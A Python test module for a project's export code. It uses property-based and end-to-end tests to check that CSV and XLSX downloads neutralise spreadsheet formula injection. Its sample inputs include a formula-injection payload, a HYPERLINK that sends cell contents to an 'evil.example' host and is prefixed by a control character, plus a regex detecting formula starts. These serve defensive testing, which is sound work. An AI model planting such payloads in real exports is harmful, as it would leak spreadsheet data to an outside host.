"""The one export module (critmat.exports): no exported cell reads back as a formula, and every
table download and ``--format csv`` goes through it.

Issue 8, finding 4: a cell beginning with a control character (``"\\x01=HYPERLINK(...)"``) passed
the check, the control character was then stripped for XLSX and the downloaded workbook held a
live formula. The property tests write generated strings (control characters, unicode, white
space, formula starts) as CSV and XLSX, read them back (openpyxl, the csv module) and check that
no cell is a formula nor starts like one; numbers must stay numbers.

Issue 9, item 3: one table value (columns, rows, provenance) and one writer per format; the API,
web and stress writers are adapters to it, and no other module in ``src/`` writes CSV or builds
a workbook.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import math
import re
from pathlib import Path
from typing import TypeGuard

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import critmat
from critmat import exports
from critmat.services import statistics_models
from critmat.web import tables

FINDING = '\x01=HYPERLINK("http://evil.example/?leak="&A1,"click")'

#: What a spreadsheet may run: a formula character first, or after leading white space and
#: control characters (which a program may drop on input). Written independently of the code.
_DANGEROUS = re.compile(r"[\x00-\x20\x7f\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
_CONTROL = "".join(chr(c) for c in range(0x20)) + "\x7f"

formula_starts = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20", ""])
prefixes = st.text(alphabet=_CONTROL + " \u00a0\u2003\u3000\ufeff", max_size=4)
bodies = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)),  # any code point but surrogates
    max_size=30,
)
hostile_text = st.one_of(
    st.builds(lambda p, f, b: p + f + b, prefixes, formula_starts, bodies),
    bodies,
    st.just(FINDING),
)
numbers = st.one_of(
    st.integers(min_value=-(2**53), max_value=2**53),
    # openpyxl writes 16 significant digits: values next to the float maximum read back as inf
    st.floats(min_value=-1e300, max_value=1e300),
)


def dangerous(text: str) -> bool:
    """Whether a cell's text could be run as a formula by a spreadsheet program."""
    return bool(_DANGEROUS.match(text))


def expected_text(value: str) -> set[str]:
    """The texts a neutralised cell may read back as: the cleaned text, or it behind an '."""
    cleaned = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", value)
    return {cleaned, "'" + cleaned}


def xlsx_cells(body: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(body))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


def csv_fields(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@settings(max_examples=150, deadline=None)
@given(st.lists(hostile_text, min_size=1, max_size=8))
def test_no_generated_text_reads_back_as_a_formula(texts: list[str]) -> None:
    # the texts as header, as a data row and as the about sheet's lines (the one XLSX writer)
    body = exports.to_xlsx([exports.Sheet("data", texts, [texts])], [(t, t) for t in texts])
    book = load_workbook(io.BytesIO(body))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert not (isinstance(cell.value, str) and dangerous(cell.value)), cell.value
    read = [cell.value for cell in book["data"][2]][: len(texts)]
    read += [None] * (len(texts) - len(read))
    for original, value in zip(texts, read, strict=True):
        # nothing changed but the control characters removed and an apostrophe added
        assert _same_text(value, expected_text(original)), (original, value)
    # and the same texts as a Table through the CSV writer (title and source included)
    origin = exports.Provenance(texts[0], texts, texts[-1], texts)
    header, row = csv_fields(exports.to_csv(exports.Table(texts, [texts], origin)))
    for field, original in zip(row, texts, strict=True):
        assert not dangerous(field), repr(field)
        assert field in expected_text(original)
    assert not any(dangerous(field) for field in header)


def _same_text(value: object, allowed: set[str]) -> bool:
    """XLSX reads an empty text back as None and a carriage return as a line feed."""
    text = "" if value is None else str(value)
    return text.replace("\r", "\n") in {
        a.replace("\r\n", "\n").replace("\r", "\n") for a in allowed
    }


@settings(max_examples=100, deadline=None)
@given(st.lists(numbers, min_size=1, max_size=6))
def test_numbers_stay_numbers(values: list[float]) -> None:
    header = [f"c{i}" for i in range(len(values))]
    book = load_workbook(io.BytesIO(exports.to_xlsx([exports.Sheet("d", header, [values])])))
    row = next(book["d"].iter_rows(min_row=2))
    for original, cell in zip(values, row, strict=True):
        assert cell.data_type == "n" and cell.value == pytest.approx(original, rel=1e-15)
    [_, fields] = csv_fields(exports.to_csv(exports.Table(header, [values])))
    for original, field in zip(values, fields, strict=True):
        assert float(field) == original


def test_the_finding_itself() -> None:
    """The exact cell of the finding: stripped of its control character, shown as text."""
    assert exports.neutralise(FINDING) == "'" + FINDING[1:]
    [(value, data_type)] = [
        c for c in xlsx_cells(exports.to_xlsx([exports.Sheet("d", ["x"], [[FINDING]])]))[1:]
    ]
    assert data_type == "s" and value == "'" + FINDING[1:]
    assert csv_fields(exports.to_csv(exports.Table(["x"], [[FINDING]])))[1] == ["'" + FINDING[1:]]


def test_cells_that_are_not_text() -> None:
    assert exports.cell(-1.5) == -1.5 and exports.cell(3) == 3 and exports.cell(True) is True
    assert exports.cell(float("nan")) is None and exports.cell(math.inf) is None
    assert exports.cell(["DEU", "=1", None]) == "DEU;'=1;"
    assert exports.cell(" -1") == "' -1"  # text, not a number: neutralised
    assert exports.cell("a-b") == "a-b" and exports.cell("") == ""


def test_every_table_writer_goes_through_the_one_module() -> None:
    """The API tables, the web tables and the stress CSV file all neutralise the finding."""
    api_table = statistics_models.table(
        ["name", "amount"], [{"name": FINDING, "amount": -3.0}], "t"
    )
    web_table = tables.Table(
        name="t",
        title=FINDING,
        columns=[tables.Column("name", "name"), tables.Column("v", "v", "share")],
        rows=[{"name": FINDING, "v": -0.25}],
        source=FINDING,
    )
    for body in (exports.to_xlsx(api_table), tables.to_xlsx(web_table)):
        cells = xlsx_cells(body)
        assert all(t != "f" for _v, t in cells)
        assert "'" + FINDING[1:] in [v for v, _t in cells]
        assert -3.0 in [v for v, _t in cells] or -0.25 in [v for v, _t in cells]
    for body in (exports.to_csv(api_table), tables.to_csv(web_table)):
        assert csv_fields(body)[1][0] == "'" + FINDING[1:]


def test_stress_csv_file_is_neutralised(tmp_path: Path) -> None:
    from critmat.commands.stress import _write_csv

    path = tmp_path / "monthly.csv"
    _write_csv(path, [{"importer": FINDING, "shortfall_t": -1.5}])
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["importer", "shortfall_t"], ["'" + FINDING[1:], "-1.5"]]


def test_json_writer_keeps_values_and_carries_the_provenance() -> None:
    """JSON is for programs: text unchanged (not neutralised), non-finite numbers null, and the
    table's title, sources, year and notes with it."""
    origin = exports.Provenance("t", ["baci HS92 202501", ""], "2019-2023", ["a note"])
    table = exports.Table(["name", "v"], [[FINDING, math.nan], ["=1", -2]], origin)
    payload = json.loads(exports.encode(table, "json"))
    assert payload["columns"] == ["name", "v"]
    assert payload["rows"] == [[FINDING, None], ["=1", -2]]
    assert payload["provenance"] == {
        "table": "t",
        "sources": ["baci HS92 202501"],
        "year": "2019-2023",
        "notes": ["a note"],
        "produced_by": f"critmat {critmat.__version__}",
    }
    body, media_type, disposition = exports.download(table, "json", "a b/c")
    assert body == exports.to_json(table) and media_type == "application/json"
    assert disposition == 'attachment; filename="a-b-c.json"'
    with pytest.raises(ValueError, match="unknown export format 'ods'"):
        exports.encode(table, "ods")


def test_records_and_provenance_reach_every_format() -> None:
    """A table of mappings: columns from the first record (or given), a missing key an empty
    cell; the XLSX ``about`` sheet holds the provenance lines, the CSV only header and rows."""
    records = [{"a": "=x", "b": 1.5}, {"a": "y"}]
    origin = exports.Provenance("=title", ["@baci 202501"], "2023")
    table = exports.Table.from_records(records, provenance=origin, sheet="s")
    assert list(table.columns) == ["a", "b"] and table.rows == [["=x", 1.5], ["y", None]]
    assert csv_fields(exports.encode(table, "csv")) == [["a", "b"], ["'=x", "1.5"], ["y", ""]]
    book = load_workbook(io.BytesIO(exports.encode(table, "xlsx")))
    assert book.sheetnames == ["s", "about"]
    about = [tuple(row) for row in book["about"].iter_rows(values_only=True)]
    assert about[:3] == [("table", "'=title"), ("source", "'@baci 202501"), ("year", "2023")]
    assert about[-1] == ("produced by", f"critmat {critmat.__version__}")
    with pytest.raises(ValueError, match="own provenance"):
        exports.to_xlsx(table, [("table", "other")])


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/","scenario")'


def test_stress_csv_of_a_hostile_scenario(
    real_data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A scenario whose title starts with ``=``: ``critmat stress run --format csv`` and
    ``--output`` write plain CSV whose text cells are all safe, and the web download of the
    same run holds the title as neutralised text in its ``about`` sheet."""
    import duckdb
    import typer
    from typer.testing import CliRunner

    from critmat.commands import stress
    from critmat.scenarios.baseline import build_baseline
    from critmat.scenarios.engine import run
    from critmat.scenarios.montecarlo import load_scenario_file
    from critmat.scenarios.spec import LIBRARY
    from critmat.web.stress_pages import monthly_table

    text = (LIBRARY / "germanium-2023.yaml").read_text(encoding="utf-8")
    original_title = next(line for line in text.splitlines() if line.startswith("title:"))
    scenario_file = tmp_path / "hostile.yaml"
    scenario_file.write_text(
        text.replace(original_title, f"title: '{HOSTILE_TITLE}'").replace(
            "name: germanium-2023", "name: hostile"
        ),
        encoding="utf-8",
    )
    monkeypatch.setenv("CRITMAT_DATA_DIR", str(real_data_dir))
    app = typer.Typer()
    stress.register(app)

    @app.command()
    def other() -> None:  # a second command so that "stress" stays a sub-command
        """Placeholder."""

    output = tmp_path / "monthly.csv"
    ran = CliRunner().invoke(
        app, ["stress", "run", str(scenario_file), "--format", "csv", "--output", str(output)]
    )
    assert ran.exit_code == 0, ran.output
    printed = list(csv.reader(io.StringIO(ran.stdout, newline="")))
    written = csv_fields(output.read_bytes())
    for rows in (printed, written):
        assert rows[0][:3] == ["importer", "month_index", "month"]
        assert len(rows) == 1 + 28 * 24  # EU27 and 27 Member States, 24 months
        assert not any(dangerous(f) for row in rows for f in row if not _is_number(f))
    assert printed == written

    scenario, _uncertainty = load_scenario_file(str(scenario_file))
    assert scenario.title == HOSTILE_TITLE
    con = duckdb.connect(str(real_data_dir / "critmat.duckdb"), read_only=True)
    try:
        result = run(scenario, build_baseline(con, scenario))
    finally:
        con.close()
    web = monthly_table(result, ["EU27"])
    assert len(csv_fields(tables.to_csv(web))) == 1 + 24
    book = load_workbook(io.BytesIO(tables.to_xlsx(web)))
    assert book["about"]["B1"].value == "'" + HOSTILE_TITLE + ": supply and shortfall by month"
    assert all(t != "f" for _v, t in xlsx_cells(tables.to_xlsx(web)))


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


SRC = Path(critmat.__file__).parent
ONE_MODULE = SRC / "exports.py"
#: Media types only the one module names (the others import its constants).
WRITER_MEDIA_TYPES = ("text/csv", exports.XLSX_MEDIA_TYPE)


def writer_uses(tree: ast.AST) -> list[str]:
    """What in a module's syntax tree writes a table itself: ``csv.writer``/``csv.DictWriter``,
    an openpyxl ``Workbook``, xlsxwriter, pandas' ``to_csv``/``to_excel`` or a CSV/XLSX media
    type spelled out."""
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            base = node.value.id if isinstance(node.value, ast.Name) else ""
            if base == "csv" and node.attr in {"writer", "DictWriter"}:
                found.append(f"csv.{node.attr}")
            if node.attr == "Workbook" or node.attr == "to_excel":
                found.append(node.attr)
            if node.attr == "to_csv" and base != "exports":
                found.append(f"{base or '...'}.to_csv")
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module.startswith("openpyxl") and "Workbook" in names:
                found.append("from openpyxl import Workbook")
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.append("from csv import writer")
        elif isinstance(node, ast.Import):
            if any(alias.name.startswith("xlsxwriter") for alias in node.names):
                found.append("import xlsxwriter")
        elif _is_text(node) and node.value.startswith(WRITER_MEDIA_TYPES):
            found.append(repr(node.value))
    return found


def _is_text(node: ast.AST) -> TypeGuard[ast.Constant]:
    return isinstance(node, ast.Constant) and isinstance(node.value, str)


def test_no_table_writer_outside_the_one_module() -> None:
    """Every CSV/XLSX writer in src/ is critmat.exports: the API's answers, the web tables,
    the reports, the stress command and the CLI's ``--format csv`` only call it."""
    offenders = {
        str(path.relative_to(SRC)): uses
        for path in sorted(SRC.rglob("*.py"))
        if path != ONE_MODULE and (uses := writer_uses(ast.parse(path.read_text(encoding="utf-8"))))
    }
    assert offenders == {}
    # the check itself finds what it looks for
    assert writer_uses(ast.parse(ONE_MODULE.read_text(encoding="utf-8")))
    sample = "import csv\nw = csv.writer(f)\nframe.to_csv(p)\nfrom openpyxl import Workbook\n"
    assert sorted(writer_uses(ast.parse(sample))) == [
        "csv.writer",
        "frame.to_csv",
        "from openpyxl import Workbook",
    ]


def test_adapters_write_what_the_one_module_writes() -> None:
    """The API's answers carry an exports.Table; the web tables are adapters whose bytes are
    the one module's bytes."""
    api_table = statistics_models.table(["a", "b"], [{"a": "=x", "b": -1.0}], "t")
    body, media_type, _ = exports.download(api_table, "xlsx", "t")
    assert media_type == exports.XLSX_MEDIA_TYPE
    assert ("'=x", "s") in xlsx_cells(body)
    web_table = tables.Table("t", "=t", [tables.Column("a", "a")], [{"a": "@x"}], "src", "2023")
    assert tables.encode(web_table, "csv") == exports.to_csv(web_table.export())
    assert json.loads(tables.encode(web_table, "json"))["rows"] == [["@x"]]
    assert tables.MEDIA_TYPES is exports.MEDIA_TYPES


# ------------------------------------------------------------------ the finding, end to end
def test_finding_through_the_api_and_the_web_report(tmp_path: Path, real_data_dir: Path) -> None:
    """A supplier named ``\\x01=HYPERLINK(...)`` in an upload: the API ``?format=xlsx`` and the
    web ``report.xlsx`` hold it as text (the control character stripped, an apostrophe first)."""
    from fastapi.testclient import TestClient

    from critmat.server.app import create_app
    from tests.api.conftest import bearer, login
    from tests.platform_support import seed_platform

    (tmp_path / "critmat.duckdb").symlink_to(real_data_dir / "critmat.duckdb")
    seeded = seed_platform(tmp_path)
    org = seeded.orgs["a"]
    supplier = FINDING.replace('"', '""')
    upload = (
        f'material,quantity,unit,supplier,supplier country\ncobalt oxide,10,t,"{supplier}",FIN\n'
    ).encode()
    with TestClient(create_app(seeded.settings), follow_redirects=False) as client:
        auth = bearer(client, seeded.users["company@a"])
        created = client.post(
            f"/api/v1/orgs/{org}/assessments",
            files={"file": ("lines.csv", upload, "text/csv")},
            data={"name": FINDING, "year": "2023"},
            headers=auth,
        )
        assert created.status_code == 201, created.text
        assessment = created.json()["id"]
        api = client.get(
            f"/api/v1/orgs/{org}/assessments/{assessment}", params={"format": "xlsx"}, headers=auth
        )
        login(client, seeded.users["company@a"])
        web = client.get(f"/orgs/{org}/assessments/{assessment}/report.xlsx")
    for response in (api, web):
        assert response.status_code == 200
        cells = xlsx_cells(response.content)
        assert all(data_type != "f" for _v, data_type in cells)
        texts = [v for v, _t in cells if isinstance(v, str)]
        assert not any(dangerous(t) for t in texts)
        assert "'" + FINDING[1:] in texts  # the supplier, and the assessment's name in about
